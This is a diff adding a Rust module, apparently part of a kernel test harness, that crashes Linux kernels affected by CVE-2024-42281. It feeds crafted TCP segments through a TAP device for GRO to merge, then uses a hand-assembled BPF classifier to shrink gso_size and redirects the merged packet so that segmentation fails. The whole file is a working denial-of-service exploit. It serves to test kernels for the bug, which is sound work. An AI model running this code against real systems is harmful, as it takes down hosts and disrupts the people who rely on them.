@@ -1,0 +1,311 @@
+//! Traffic that kills a kernel which has CVE-2024-42281, from user space alone.
+//!
+//! Small TCP segments come in by a TAP device, as from a network card, and GRO merges 19
+//! of them: one in the packet's own buffer, 17 in its pages, the last in its list. A BPF
+//! program takes the place of an overlay network's: it makes room for a tunnel's header,
+//! which takes as much off `gso_size`, and takes the room back, which does not give it
+//! back. Then it sends the packet on by another device, which has it taken apart.
+
+use std::fs::{self, File, OpenOptions};
+use std::io::{self, Write as _};
+use std::mem::zeroed;
+use std::os::fd::{AsRawFd as _, FromRawFd as _};
+use std::os::unix::fs::OpenOptionsExt as _;
+use std::time::Duration;
+
+use anyhow::{Context as _, Result};
+
+use crate::machine;
+
+/// Names of the modules that it takes; made with the initramfs.
+const MODULES: &str = "/modules/traffic";
+
+const IN: &str = "tap0";
+const OUT: &str = "tap1";
+
+/// Bytes of a segment, how many GRO merges, and of the header: 18 segments are a multiple
+/// of what is left of one, so that one begins where the list does.
+const SEGMENT: usize = 125;
+const SEGMENTS: usize = 19;
+const HEADER: i32 = 50;
+
+/// Once is enough; a packet that GRO sent on too early is made up for.
+const ROUNDS: u16 = 20;
+const PAUSE: Duration = Duration::from_millis(300);
+
+/// `IFF_NAPI` (include/uapi/linux/if_tun.h): through GRO, as a card does.
+const NAPI: libc::c_int = 0x0010;
+
+/// Sends it; returns if the kernel lives on.
+pub(crate) fn mangled() -> Result<()> {
+    machine::load(MODULES)?;
+    let mut inside = tap(IN, NAPI).context(IN)?;
+    let _outside = tap(OUT, 0).context(OUT)?;
+    // GRO waits for all of them.
+    let attribute = |name: &str| format!("/sys/class/net/{IN}/{name}");
+    fs::write(attribute("gro_flush_timeout"), "200000000")?;
+    fs::write(attribute("napi_defer_hard_irqs"), "100")?;
+    let program = load(index(OUT)?).context("the BPF program")?;
+    attach(&program, index(IN)?).context("attaching the BPF program")?;
+    let mut sequence = 1000;
+    for round in 0..ROUNDS {
+        for number in 0..SEGMENTS as u16 {
+            inside.write_all(&frame(1000 + round, number + 1, sequence))?;
+            sequence += SEGMENT as u32;
+        }
+        std::thread::sleep(PAUSE);
+    }
+    Ok(())
+}
+
+/// A TAP device that is up.
+fn tap(name: &str, flags: libc::c_int) -> Result<File> {
+    let file = OpenOptions::new()
+        .read(true)
+        .write(true)
+        .custom_flags(libc::O_NONBLOCK)
+        .open("/dev/net/tun")?;
+    // Without a limit the kernel builds packets in pages, as cards' drivers do.
+    let limit = libc::c_int::MAX;
+    // SAFETY: an all-zero ifreq is valid; each request reads its own field of it, and
+    // the other one an int.
+    unsafe {
+        let mut request: libc::ifreq = zeroed();
+        for (to, from) in request.ifr_name.iter_mut().zip(name.bytes()) {
+            *to = from as libc::c_char;
+        }
+        let kind = libc::IFF_TAP | libc::IFF_NO_PI | flags;
+        request.ifr_ifru.ifru_flags = kind as libc::c_short;
+        machine::check(libc::ioctl(
+            file.as_raw_fd(),
+            libc::TUNSETIFF as _,
+            &raw mut request,
+        ))?;
+        machine::check(libc::ioctl(
+            file.as_raw_fd(),
+            libc::TUNSETSNDBUF as _,
+            &raw const limit,
+        ))?;
+    }
+    machine::flags(name, libc::IFF_UP)?;
+    Ok(file)
+}
+
+fn index(device: &str) -> Result<u32> {
+    let text = fs::read_to_string(format!("/sys/class/net/{device}/ifindex"))?;
+    Ok(text.trim().parse()?)
+}
+
+/// A TCP segment over IPv4 over Ethernet; `number` tells packets of a flow apart.
+fn frame(port: u16, number: u16, sequence: u32) -> Vec<u8> {
+    let payload: Vec<u8> = (0..SEGMENT).map(|i| i as u8).collect();
+    let mut ip = vec![0x45, 0];
+    ip.extend(((40 + SEGMENT) as u16).to_be_bytes());
+    ip.extend(number.to_be_bytes());
+    // Not to be fragmented; lives long; TCP; no checksum yet; from, to.
+    ip.extend([0x40, 0, 64, 6, 0, 0, 10, 1, 0, 1, 10, 2, 0, 1]);
+    let sum = checksum(&ip, 0);
+    ip[10..12].copy_from_slice(&sum.to_be_bytes());
+
+    let mut tcp = Vec::new();
+    tcp.extend(port.to_be_bytes());
+    tcp.extend(2000_u16.to_be_bytes());
+    tcp.extend(sequence.to_be_bytes());
+    tcp.extend(1_u32.to_be_bytes());
+    // Five words of header, an acknowledgement; window; no checksum yet.
+    tcp.extend([0x50, 0x10, 0x03, 0xe8, 0, 0, 0, 0]);
+    tcp.extend(&payload);
+    let pseudo = sum_of(&ip[12..20]) + 6 + tcp.len() as u32;
+    let sum = checksum(&tcp, pseudo);
+    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
+
+    let ethernet = [2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0];
+    [&ethernet[..], &ip, &tcp].concat()
+}
+
+fn sum_of(bytes: &[u8]) -> u32 {
+    let word = |pair: &[u8]| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0));
+    bytes.chunks(2).map(word).sum()
+}
+
+/// The Internet's (RFC 1071).
+fn checksum(bytes: &[u8], more: u32) -> u16 {
+    let mut sum = sum_of(bytes) + more;
+    while sum >> 16 != 0 {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    !(sum as u16)
+}
+
+/// One instruction (Documentation/bpf/standardization/instruction-set.rst): code,
+/// registers (source above destination), offset, number.
+const fn instruction(code: u8, registers: u8, offset: i16, number: i32) -> u64 {
+    let number = number as u32;
+    code as u64 | (registers as u64) << 8 | (offset as u16 as u64) << 16 | (number as u64) << 32
+}
+
+/// Load four bytes; set to a number; copy; jump if equal to a number; call; end.
+const LOAD: u8 = 0x61;
+const SET: u8 = 0xb7;
+const COPY: u8 = 0xbf;
+const JUMP_IF_EQUAL: u8 = 0x15;
+const CALL: u8 = 0x85;
+const END: u8 = 0x95;
+
+/// Offset of `gso_size` in `struct __sk_buff` (include/uapi/linux/bpf.h).
+const GSO_SIZE: i16 = 176;
+
+/// Helpers, `BPF_ADJ_ROOM_MAC`, `BPF_F_ADJ_ROOM_FIXED_GSO`, and a verdict (`TC_ACT_SHOT`).
+const REDIRECT: i32 = 23;
+const ADJUST_ROOM: i32 = 50;
+const BEHIND_MAC: i32 = 1;
+const KEEP_SIZE: i32 = 1;
+const DROP: i32 = 2;
+
+/// Loads the program that sends what GRO merged on by `out`, and drops the rest.
+fn load(out: u32) -> Result<File> {
+    let adjust = |bytes: i32, flags: i32| {
+        [
+            instruction(COPY, 0x61, 0, 0),
+            instruction(SET, 2, 0, bytes),
+            instruction(SET, 3, 0, BEHIND_MAC),
+            instruction(SET, 4, 0, flags),
+            instruction(CALL, 0, 0, ADJUST_ROOM),
+        ]
+    };
+    let mut program = vec![
+        instruction(COPY, 0x16, 0, 0),
+        instruction(LOAD, 0x10, GSO_SIZE, 0),
+        // Over all that follows, to the last two.
+        instruction(JUMP_IF_EQUAL, 0, 14, 0),
+    ];
+    program.extend(adjust(HEADER, 0));
+    program.extend(adjust(-HEADER, KEEP_SIZE));
+    program.extend([
+        instruction(SET, 1, 0, out as i32),
+        instruction(SET, 2, 0, 0),
+        instruction(CALL, 0, 0, REDIRECT),
+        instruction(END, 0, 0, 0),
+        instruction(SET, 0, 0, DROP),
+        instruction(END, 0, 0, 0),
+    ]);
+    bpf::load(&program)
+}
+
+/// Has the program see all that comes in by a device.
+fn attach(program: &File, device: u32) -> Result<()> {
+    /// `TC_H_CLSACT`, with what comes in, and with nothing yet.
+    const CLSACT: u32 = 0xffff_fff1;
+    const INCOMING: u32 = 0xffff_fff2;
+    const HANDLE: u32 = 0xffff_0000;
+    /// Priority 1, all protocols.
+    const ALL: u32 = 1 << 16 | 0x0300;
+    /// Attributes (include/uapi/linux/rtnetlink.h, pkt_cls.h), and the flag that the
+    /// program's answer is the verdict.
+    const KIND: u16 = 1;
+    const OPTIONS: u16 = 2;
+    const PROGRAM: u16 = 6;
+    const NAME: u16 = 7;
+    const FLAGS: u16 = 8;
+    const DIRECT: u32 = 1;
+
+    let socket = bpf::netlink()?;
+    let message = |device: u32, handle: u32, parent: u32, info: u32| -> Vec<u8> {
+        [0, device, handle, parent, info]
+            .map(u32::to_ne_bytes)
+            .concat()
+    };
+    let kind = attribute(KIND, b"clsact\0");
+    let body = [message(device, HANDLE, CLSACT, 0), kind].concat();
+    bpf::request(&socket, libc::RTM_NEWQDISC, &body).context("the clsact qdisc")?;
+    let options = [
+        attribute(PROGRAM, &(program.as_raw_fd() as u32).to_ne_bytes()),
+        attribute(NAME, b"mangle\0"),
+        attribute(FLAGS, &DIRECT.to_ne_bytes()),
+    ];
+    let body = [
+        message(device, 0, INCOMING, ALL),
+        attribute(KIND, b"bpf\0"),
+        attribute(OPTIONS, &options.concat()),
+    ];
+    bpf::request(&socket, libc::RTM_NEWTFILTER, &body.concat()).context("the filter")
+}
+
+/// `struct nlattr` and what it holds.
+fn attribute(kind: u16, content: &[u8]) -> Vec<u8> {
+    let len = (4 + content.len()) as u16;
+    let mut bytes = [len.to_ne_bytes(), kind.to_ne_bytes()].concat();
+    bytes.extend(content);
+    bytes.resize(bytes.len().next_multiple_of(4), 0);
+    bytes
+}
+
+/// The system calls.
+mod bpf {
+    use super::*;
+
+    /// `BPF_PROG_LOAD`, `BPF_PROG_TYPE_SCHED_CLS`.
+    const PROG_LOAD: libc::c_long = 5;
+    const CLASSIFIER: u32 = 3;
+
+    /// The beginning of `union bpf_attr` for it.
+    #[repr(C)]
+    struct Load {
+        kind: u32,
+        count: u32,
+        instructions: u64,
+        license: u64,
+        log_level: u32,
+        log_size: u32,
+        log: u64,
+    }
+
+    pub(super) fn load(program: &[u64]) -> Result<File> {
+        let license = c"GPL";
+        let load = Load {
+            kind: CLASSIFIER,
+            count: program.len() as u32,
+            instructions: program.as_ptr() as u64,
+            license: license.as_ptr() as u64,
+            log_level: 0,
+            log_size: 0,
+            log: 0,
+        };
+        // SAFETY: what `load` points at outlives the call, which gives a new descriptor.
+        unsafe {
+            let fd = libc::syscall(libc::SYS_bpf, PROG_LOAD, &raw const load, size_of::<Load>());
+            machine::check(fd as libc::c_int)?;
+            Ok(File::from_raw_fd(fd as libc::c_int))
+        }
+    }
+
+    pub(super) fn netlink() -> Result<File> {
+        let kind = libc::SOCK_RAW | libc::SOCK_CLOEXEC;
+        // SAFETY: gives a new descriptor.
+        unsafe {
+            let fd = libc::socket(libc::AF_NETLINK, kind, libc::NETLINK_ROUTE);
+            machine::check(fd)?;
+            Ok(File::from_raw_fd(fd))
+        }
+    }
+
+    /// Asks for something new, and waits for the answer.
+    pub(super) fn request(mut socket: &File, kind: u16, body: &[u8]) -> Result<()> {
+        const HEADER: usize = 16;
+        let flags = libc::NLM_F_REQUEST | libc::NLM_F_ACK | libc::NLM_F_CREATE;
+        let mut bytes = ((HEADER + body.len()) as u32).to_ne_bytes().to_vec();
+        bytes.extend(kind.to_ne_bytes());
+        bytes.extend((flags as u16).to_ne_bytes());
+        bytes.extend([1, 0, 0, 0, 0, 0, 0, 0]);
+        bytes.extend(body);
+        socket.write_all(&bytes)?;
+        let mut answer = [0; 1024];
+        let len = io::Read::read(&mut socket, &mut answer)?;
+        let error = answer[..len].get(HEADER..HEADER + 4);
+        let error = error.and_then(|bytes| bytes.try_into().ok());
+        match i32::from_ne_bytes(error.context("an answer that is too short")?) {
+            0 => Ok(()),
+            error => Err(io::Error::from_raw_os_error(-error).into()),
+        }
+    }
+}
